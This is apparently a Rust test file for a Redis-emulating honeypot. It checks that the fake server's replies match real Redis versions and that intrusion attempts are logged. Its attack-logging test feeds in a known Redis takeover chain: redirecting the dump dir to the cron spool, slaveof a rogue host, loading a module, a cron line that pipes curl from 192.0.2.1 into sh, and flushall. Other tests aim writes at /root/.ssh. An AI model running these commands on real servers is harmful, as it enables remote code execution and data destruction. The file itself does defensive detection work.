//! Redis as its clients see it; the answers were taken from Redis 7.0.15 of Debian 12.

use std::sync::Arc;

use decnet_proto::{persona::ProductName, service::ServiceId};
use proptest::prelude::*;

use super::{Redis, SEEDS};
use crate::{
    ConnectionService, Host,
    testing::{self, Pace, Seen},
};

fn redis(host: &Host, version: &str, keys: &[(&str, &str)]) -> Redis {
    Redis::build(&testing::spec(ServiceId::Redis, ProductName::Redis, version, keys), host).unwrap()
}

fn talk(host: &Arc<Host>, redis: &Redis, input: &[u8], pace: Pace) -> (String, Vec<Seen>) {
    let (output, _, events) = testing::dialogue(redis, ServiceId::Redis, host, input, pace);
    (String::from_utf8_lossy(&output).into_owned(), events)
}

/// Each conversation in its own right, in one piece and byte by byte.
fn check_version(version: &str, keys: &[(&str, &str)], input: &str, expect: &str) {
    for pace in [Pace::Whole, Pace::OneByte] {
        let host = testing::host(1);
        let (output, _) = talk(&host, &redis(&host, version, keys), input.as_bytes(), pace);
        assert_eq!(output, expect, "{input} {pace:?}");
    }
}

fn check(input: &str, expect: &str) {
    check_version("7.0.15", &[], input, expect);
}

#[test]
fn answers_of_the_real_server() {
    check("foo\r\n", "-ERR unknown command 'foo', with args beginning with: \r\n");
    check("foo a b\r\n", "-ERR unknown command 'foo', with args beginning with: 'a' 'b' \r\n");
    check("get\r\n", "-ERR wrong number of arguments for 'get' command\r\n");
    check("QUIT\r\nPING\r\n", "+OK\r\n");
    check("POST / HTTP/1.0\r\n\r\n", "");
    check("hello 4\r\n", "-NOPROTO unsupported protocol version\r\n");
    check("hello x\r\n", "-ERR Protocol version is not an integer or out of range\r\n");
    check("AUTH a b\r\n", "-WRONGPASS invalid username-password pair or user is disabled.\r\n");
    check("AUTH a b c\r\n", "-ERR syntax error\r\n");
    check("client foo\r\n", "-ERR unknown subcommand 'foo'. Try CLIENT HELP.\r\n");
    check("client setname foo\r\nclient getname\r\n", "+OK\r\n$3\r\nfoo\r\n");
    check(
        "select 1\r\nselect 16\r\nselect a\r\n",
        "+OK\r\n-ERR DB index is out of range\r\n-ERR value is not an integer or out of range\r\n",
    );
    check("config get dir\r\n", "*2\r\n$3\r\ndir\r\n$14\r\n/var/lib/redis\r\n");
    check(
        "config set dir /root/.ssh\r\n",
        "-ERR CONFIG SET failed (possibly related to argument 'dir') - can't set protected config\r\n",
    );
    check("config set foo bar\r\n", "-ERR Unknown option or number of arguments for CONFIG SET - 'foo'\r\n");
    check("config get\r\n", "-ERR wrong number of arguments for 'config|get' command\r\n");
    check(
        "slaveof 192.0.2.1 99\r\nslaveof no one\r\nrole\r\n",
        "+OK\r\n+OK\r\n*3\r\n$6\r\nmaster\r\n:0\r\n*0\r\n",
    );
    check("module list\r\n", "*0\r\n");
    check(
        "set a b\r\nget a\r\ntype a\r\nttl a\r\nobject encoding a\r\n",
        "+OK\r\n$1\r\nb\r\n+string\r\n:-1\r\n$6\r\nembstr\r\n",
    );
    check(
        "lpush l 1 2\r\nlrange l 0 -1\r\nget l\r\n",
        ":2\r\n*2\r\n$1\r\n2\r\n$1\r\n1\r\n-WRONGTYPE Operation against a key holding the wrong kind of value\r\n",
    );
    check("scan x\r\n", "-ERR invalid cursor\r\n");
    check("eval \"return {1,2,'x'}\" 0\r\n", "*3\r\n:1\r\n:2\r\n$1\r\nx\r\n");
    check("set a b\r\neval \"return redis.call('get',KEYS[1])\" 1 a\r\n", "+OK\r\n$1\r\nb\r\n");
    check(
        "eval \"return os.execute('id')\" 0\r\n",
        "-ERR user_script:1: Script attempted to access nonexistent global variable 'os' script: 4b407f359772ac1a6d8c08af9b6f5a54ba99016b, on @user_script:1.\r\n",
    );
    check("eval \"return 1\" 3\r\n", "-ERR Number of keys can't be greater than number of args\r\n");
    check("script load \"return 1\"\r\n", "$40\r\ne0e1f9fabfc9d4800c877a703b823ac0578ff8db\r\n");
    check(
        "subscribe a\r\nget x\r\nping\r\n",
        "*3\r\n$9\r\nsubscribe\r\n$1\r\na\r\n:1\r\n-ERR Can't execute 'get': only (P|S)SUBSCRIBE / (P|S)UNSUBSCRIBE / PING / QUIT / RESET are allowed in this context\r\n*2\r\n$4\r\npong\r\n$0\r\n\r\n",
    );
    check("multi\r\nset a c\r\nget a\r\nexec\r\n", "+OK\r\n+QUEUED\r\n+QUEUED\r\n*2\r\n+OK\r\n$1\r\nc\r\n");
    check(
        "multi\r\nfoo\r\nexec\r\nexec\r\n",
        "+OK\r\n-ERR unknown command 'foo', with args beginning with: \r\n-EXECABORT Transaction discarded because of previous errors.\r\n-ERR EXEC without MULTI\r\n",
    );
    check("acl whoami\r\nacl cat foo\r\n", "$7\r\ndefault\r\n-ERR Unknown category 'foo'\r\n");
    check(
        "lolwut\r\nreset\r\nwait 0 0\r\ncommand count\r\n",
        "$18\r\nRedis ver. 7.0.15\n\r\n+RESET\r\n:0\r\n:240\r\n",
    );
    check(
        "hset h a 1\r\nhgetall h\r\nsadd s 1 a\r\nsmembers s\r\n",
        ":1\r\n*2\r\n$1\r\na\r\n$1\r\n1\r\n:2\r\n*2\r\n$1\r\n1\r\n$1\r\na\r\n",
    );
    check("zadd z 1 a\r\nzrange z 0 -1 withscores\r\n", ":1\r\n*2\r\n$1\r\na\r\n$1\r\n1\r\n");
    check("restore a 0 x\r\ninfo foo\r\n", "-ERR DUMP payload version or checksum are wrong\r\n$0\r\n\r\n");
    check("*1\r\n+x\r\nPING\r\n", "-ERR Protocol error: expected '$', got '+'\r\n");
}

#[test]
fn a_web_client_is_dropped_without_a_word() {
    let host = testing::host(1);
    let (output, events) =
        talk(&host, &redis(&host, "7.0.15", &[]), b"GET / HTTP/1.0\r\nHost: x\r\n\r\n", Pace::Whole);
    assert_eq!((output.as_str(), events.last().unwrap().kind.as_str()), ("", "protocol_error"));
}

#[test]
fn older_versions_speak_as_they_did() {
    check_version(
        "5.0.7",
        &[],
        "foo a\r\n",
        "-ERR unknown command `foo`, with args beginning with: `a`, \r\n",
    );
    check_version(
        "5.0.7",
        &[],
        "hello 3\r\n",
        "-ERR unknown command `hello`, with args beginning with: `3`, \r\n",
    );
    check_version("5.0.7", &[], "auth x\r\n", "-ERR Client sent AUTH, but no password is set\r\n");
    check_version(
        "6.0.16",
        &[],
        "config set dir /root/.ssh\r\n",
        "-ERR Changing directory: Permission denied\r\n",
    );
}

#[test]
fn a_password_keeps_strangers_out_until_it_is_given() {
    let keys = [("password", "s3cret")];
    check_version(
        "7.0.15",
        &keys,
        "get a\r\nauth wrong\r\nauth s3cret\r\nping\r\n",
        "-NOAUTH Authentication required.\r\n-WRONGPASS invalid username-password pair or user is disabled.\r\n+OK\r\n+PONG\r\n",
    );
    check_version("7.0.15", &keys, "*11\r\n", "-ERR Protocol error: unauthenticated multibulk length\r\n");
}

#[test]
fn what_is_written_stays_for_the_next_client_and_info_counts() {
    let host = testing::host(1);
    let redis = redis(&host, "7.0.15", &[]);
    let figure = |info: &str, name: &str| {
        info.lines().find_map(|l| l.strip_prefix(name)?.strip_prefix(':')).unwrap().parse::<u64>().unwrap()
    };
    let before = talk(&host, &redis, b"INFO stats\r\n", Pace::Whole).0;
    talk(&host, &redis, b"SET kept here\r\n", Pace::Whole);
    assert_eq!(talk(&host, &redis, b"GET kept\r\n", Pace::Whole).0, "$4\r\nhere\r\n");
    let after = talk(&host, &redis, b"INFO stats\r\n", Pace::Whole).0;
    assert_eq!(
        figure(&after, "total_connections_received"),
        figure(&before, "total_connections_received") + 3
    );
    assert_eq!(figure(&after, "total_commands_processed"), figure(&before, "total_commands_processed") + 3);
}

#[test]
fn two_deckies_share_no_identity_and_one_keeps_its_own() {
    let info = |seed| {
        let host = testing::host(seed);
        talk(&host, &redis(&host, "7.0.15", &[]), b"INFO server\r\nKEYS *\r\n", Pace::Whole).0
    };
    let line = |text: &str, name: &str| text.lines().find(|l| l.starts_with(name)).unwrap().to_owned();
    for name in ["run_id", "process_id"] {
        assert_eq!(line(&info(1), name), line(&info(1), name));
        assert_ne!(line(&info(1), name), line(&info(2), name));
    }
    assert_ne!(line(&info(1), "session:"), line(&info(2), "session:"));
}

#[test]
fn attacks_and_log_ins_are_told() {
    let host = testing::host(1);
    let redis = redis(&host, "6.0.16", &[]);
    let script = "auth hunter2\r\nconfig set dir /var/spool/cron/\r\nslaveof 192.0.2.1 21000\r\nmodule load /tmp/x.so\r\n\
                  set x \"\\n* * * * * curl http://192.0.2.1/x|sh\\n\"\r\neval \"return 1\" 0\r\nflushall\r\npsync ? -1\r\n";
    let (_, events) = talk(&host, &redis, script.as_bytes(), Pace::Whole);
    let techniques: Vec<_> =
        events.iter().filter(|e| e.kind == "exploit_attempt").map(|e| e.get("technique")).collect();
    assert_eq!(
        techniques,
        [
            "redis_write_file",
            "redis_replicaof",
            "redis_module",
            "redis_payload",
            "redis_eval",
            "redis_flush",
            "redis_sync"
        ]
    );
    let auth = events.iter().find(|e| e.kind == "auth_attempt").unwrap();
    assert_eq!((auth.get("password"), auth.get("status")), ("hunter2", "rejected"));
}

#[test]
fn a_hundred_megabytes_without_an_end_are_not_kept() {
    let host = testing::host(1);
    let redis = redis(&host, "7.0.15", &[]);
    let mut input = b"*2\r\n$3\r\nGET\r\n$104857600\r\n".to_vec();
    input.resize(4 << 20, b'x');
    let (_, ended, _) = testing::dialogue(&redis, ServiceId::Redis, &host, &input, Pace::Whole);
    assert_eq!(ended, Err(crate::End::Budget));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2_000))]
    #[test]
    fn survives_mutations(seed in 0..SEEDS.len(), flips in proptest::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 0..6), tail in proptest::collection::vec(any::<u8>(), 0..60)) {
        let mut input = SEEDS[seed].to_vec();
        for (at, byte) in flips {
            let at = at.index(input.len());
            input[at] = byte;
        }
        input.extend_from_slice(&tail);
        let host = testing::host(1);
        let redis = redis(&host, "7.0.15", &[]);
        let (output, ..) = testing::dialogue(&redis, ServiceId::Redis, &host, &input, Pace::Whole);
        prop_assert!(output.len() < 1 << 20);
        let state = redis.instance.state();
        prop_assert!(state.clients.is_empty() && state.keys.size() <= super::keyspace::MEMORY);
    }
}
